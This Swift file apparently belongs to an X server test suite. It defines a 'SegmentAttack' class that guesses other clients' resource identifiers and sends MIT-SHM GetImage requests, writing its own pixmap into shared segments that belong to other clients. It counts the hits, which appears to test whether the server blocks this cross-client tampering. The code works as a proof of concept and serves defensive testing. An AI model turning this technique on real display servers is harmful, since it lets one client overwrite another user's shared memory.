import CXCB
import Foundation

/// Any client can name any resource: this one names every identifier that another client may have given a
/// shared segment, and copies a picture of its own into it.
final class SegmentAttack: @unchecked Sendable {
    private let client: TestClient
    private let pixmap: UInt32

    /// Identifiers of other clients tried in each round.
    private let candidates: [UInt32]

    init(_ server: XvncServer) throws {
        client = try TestClient(server, mapped: false)
        let raw = unsafe client.connection
        let picture = unsafe xcb_generate_id(raw)
        pixmap = picture
        // A server gives each client 2^21 identifiers; XCB counts up from the lowest.
        let others = (1..<16).map { UInt32($0) << 21 }.filter { $0 != picture & ~0x1fffff }
        candidates = others.flatMap { base in (0..<12).map { base + $0 } }
        unsafe xcb_create_pixmap(raw, 24, picture, client.root, 64, 64)
        unsafe xcb_change_gc(raw, client.context, XCB_GC_FOREGROUND.rawValue, [UInt32(0xff00ff)])
        let area = xcb_rectangle_t(x: 0, y: 0, width: 64, height: 64)
        unsafe withUnsafePointer(to: area) { _ = unsafe xcb_poly_fill_rectangle(raw, picture, client.context, 1, $0) }
        client.sync()
    }

    /// One round over all candidates.
    ///
    /// - Returns: how many of them took the picture.
    func strike() -> Int {
        let raw = unsafe client.connection
        let cookies = candidates.map { candidate in
            unsafe xcb_shm_get_image(
                raw, pixmap, 0, 0, 64, 64, ~0, UInt8(XCB_IMAGE_FORMAT_Z_PIXMAP.rawValue), candidate, 0)
        }
        var hits = 0
        for cookie in cookies {
            var error: UnsafeMutablePointer<xcb_generic_error_t>?
            if let reply = unsafe xcb_shm_get_image_reply(raw, cookie, &error) {
                hits += 1
                unsafe free(reply)
            }
            unsafe free(error)
        }
        return hits
    }
}
